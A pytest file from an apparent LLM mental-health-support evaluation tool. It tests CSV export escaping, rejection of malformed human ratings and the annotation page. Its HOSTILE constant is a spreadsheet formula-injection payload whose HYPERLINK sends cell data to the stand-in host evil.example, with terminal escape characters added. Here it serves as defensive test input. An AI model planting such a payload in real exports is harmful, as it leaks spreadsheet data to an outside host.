"""Hostile round 4 on the ratings (issue 47): the CSV export through the escaping layer (M1), an
annotation.json whose answers are {} (M3) and ratings checked against the form with counts by reason (L1)."""

import csv
import json
import shutil

import pytest

from conftest import run_quiet, run_spec
from trustmh.analysis.runs import load_run
from trustmh.testing.fake_server import FakeLLMServer
from trustmh.validation import annotate

CRITERIA = ("fluency", "professionalism", "empathy", "helpfulness")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")\x1b[2J\x07 I hear you.'


def reply(body):
    text = body["messages"][-1]["content"]
    if '"fluency"' in text:
        return json.dumps({c: 3 for c in CRITERIA})
    if "clinical safety reviewer" in text:
        return "Answer: SAFE"
    return HOSTILE


@pytest.fixture(scope="module")
def rated(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("round4")
    with FakeLLMServer(reply=reply) as srv:
        run_quiet(run_spec(models=["openai/m"], judge="openai/j", base_url=srv.openai_base_url,
                           judge_base_url=srv.openai_base_url, tasks="reliability.support", suite="sample"),
                  tmp / "run")
    run = load_run(tmp / "run")
    ann = annotate.open_annotation(run, 4, "uniform", 1)
    for u in ann.units:
        ann.rate(u["id"], "dr-a", {c: 4 for c in CRITERIA})
    ann.save()
    return tmp / "run"


def copy_of(rated, tmp_path):
    out = tmp_path / "run"
    shutil.copytree(rated, out)
    return out


def test_csv_export_goes_through_the_escaping_layer(rated, tmp_path, cli):
    run_dir = copy_of(rated, tmp_path)
    got = cli("annotate", run_dir, "--export", tmp_path / "r.csv")
    assert got.returncode == 0, got.stderr
    text = (tmp_path / "r.csv").read_text(encoding="utf-8")
    assert "\x1b" not in text and "\x07" not in text
    rows = list(csv.DictReader((tmp_path / "r.csv").open(newline="", encoding="utf-8")))
    assert rows and all(not r["reply"].startswith(("=", "+", "-", "@")) for r in rows)
    assert all(r["reply"].startswith("'=HYPERLINK(") and "\\x1b" in r["reply"] for r in rows)
    # the JSON Lines export keeps the text exactly
    assert cli("annotate", run_dir, "--export", tmp_path / "r.jsonl").returncode == 0
    lines = [json.loads(x) for x in (tmp_path / "r.jsonl").read_text().splitlines()]
    assert lines and all(x["reply"] == HOSTILE for x in lines)


def _tamper(run_dir, change):
    path = run_dir / "annotation.json"
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


def score(cli_here, run_dir):
    """`trustmh score RUN`'s stdout and results.json; a crash is raised here, an error (exit 2) fails."""
    code, out, err = cli_here("score", run_dir, "--no-progress")
    assert code == 0 and "Traceback" not in out + err, (code, out, err)
    return out, json.loads((run_dir / "results.json").read_text())


def test_empty_answers_are_counted_not_a_traceback(rated, tmp_path, cli_here):
    run_dir = copy_of(rated, tmp_path)

    def empty(data):
        for r in data["ratings"]:
            r["answers"] = {}
    _tamper(run_dir, empty)
    out, res = score(cli_here, run_dir)
    assert "4 of 4 ratings left out (answers lack a criterion of the form: 4)" in out
    assert res["calibration"]["ratings_left_out"] == {"answers lack a criterion of the form": 4}


def test_empty_answers_on_a_form_whose_verdict_reads_them(tmp_path, cli_here):
    """safety.antitoxic's form writes its verdict from answers["safe"]: {} raised KeyError (a traceback)."""
    with FakeLLMServer(reply=reply) as srv:
        run_quiet(run_spec(models=["openai/m"], judge="openai/j", base_url=srv.openai_base_url,
                           judge_base_url=srv.openai_base_url, tasks="safety.antitoxic", suite="sample"),
                  tmp_path / "run")
    ann = annotate.open_annotation(load_run(tmp_path / "run"), 3, "uniform", 1)
    for u in ann.units:
        ann.rate(u["id"], "dr-a", {})
    ann.save()
    out, _ = score(cli_here, tmp_path / "run")
    assert f"{len(ann.units)} of {len(ann.units)} ratings left out (answers lack a criterion of the form" in out


def test_ratings_are_checked_against_the_form_with_counts_by_reason(rated, tmp_path, cli_here):
    run_dir = copy_of(rated, tmp_path)
    bad = [{"fluency": "5", "professionalism": 4, "empathy": 4, "helpfulness": 4},
           {"fluency": 4.5, "professionalism": 4, "empathy": 4, "helpfulness": 4},
           {"fluency": 9, "professionalism": 4, "empathy": 4, "helpfulness": 4}]

    def hostile(data):
        for r, answers in zip(data["ratings"], bad):
            r["answers"] = answers
        data["ratings"].append(dict(data["ratings"][3]))  # the same item and rater again
        data["units"][3]["pi"] = 1e-300
    _tamper(run_dir, hostile)
    out, res = score(cli_here, run_dir)
    left = res["calibration"]["ratings_left_out"]
    assert left == {"a rating is not a number": 1, "a rating is not a whole number": 1,
                    "a rating is off the form's scale": 1,
                    "a second rating of the same item by the same rater (the later one kept)": 1,
                    "the item's inclusion probability is not the one its draw gives": 1}
    assert res["calibration"]["n_ratings"] == 0 and "5 of 5 ratings left out" in out
    cal = res["models"]["openai/m"]["tasks"]["reliability.support"]["calibrated"]
    assert cal["value"] is None and "too few human ratings: 0" in cal["reason"]


def test_nan_rating_is_left_out(rated, tmp_path, cli_here):
    run_dir = copy_of(rated, tmp_path)
    path = run_dir / "annotation.json"
    data = json.loads(path.read_text())
    data["ratings"][0]["answers"]["empathy"] = float("nan")
    path.write_text(json.dumps(data))  # Python writes NaN, and reads it back
    _, res = score(cli_here, run_dir)
    assert res["calibration"]["ratings_left_out"] == {"a rating is not a whole number": 1}
    assert res["calibration"]["n_ratings"] == 3


# --- the form is the judge's rubric; the conversation is the person's (issue 47 item 5) ----------------

def test_the_form_carries_the_judges_anchors_read_from_its_template():
    from trustmh.tasks.base import template_source
    from trustmh.validation.rating_forms import form_for
    from trustmh.tasks import TASKS
    from trustmh.engine import context
    from conftest import run_spec
    ctx = context(run_spec(models=["baseline/refuse"], tasks="reliability.support", suite="sample"))
    form, why = form_for(TASKS["reliability.support"](), ctx)
    source = " ".join(template_source("reliability_support_judge.j2").split())
    assert why is None and [c.name for c in form.criteria] == list(CRITERIA)
    for c in form.criteria:
        anchored = {v: text for v, text in c.choices if text}
        assert sorted(anchored) == [0, 3, 5], c.name  # the rubric anchors 0, 3 and 5; 1, 2 and 4 lie between
        for v, text in anchored.items():
            assert f"{v} = {text}" in source, (c.name, v)  # the template's own words
        assert c.question.split(": ", 1)[1] in source
    # reliability.intervention anchors every value of each of its scales
    form, _ = form_for(TASKS["reliability.intervention"](), ctx)
    assert all(all(text for _, text in c.choices) for c in form.criteria)


def test_the_page_shows_the_conversation_as_written_and_the_anchors(chromium, rated, tmp_path):
    import threading
    from playwright.sync_api import expect
    from trustmh.testing.browser import chromium_tab
    run_dir = copy_of(rated, tmp_path)
    run = load_run(run_dir)
    ann = annotate.read_annotation(run_dir)
    shown = annotate.shown_units([run], [ann])
    for s in shown.values():
        assert s.context and all(c["who"] in ("Seeker", "Supporter") for c in s.context), s.context
        assert not any("You are the supporter" in c["text"] for c in s.context)
    server = annotate.make_server([run], [ann], 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        with chromium_tab(chromium) as tab:
            page = tab.page
            page.goto(annotate.url(server))
            page.fill("#a-rater", "dr-new")
            page.click("#a-begin")
            page.wait_for_selector("#a-item:not([hidden])")
            context = page.inner_text("#a-context")
            assert "You are the supporter" not in context and "Seeker" in context
            assert "Write the supporter's next message" not in context
            expect(page.locator("#a-form")).to_contain_text("0 = hard to follow")
            expect(page.locator("#a-form")).to_contain_text("5 = tailored to this seeker")
    finally:
        server.shutdown()
        server.server_close()
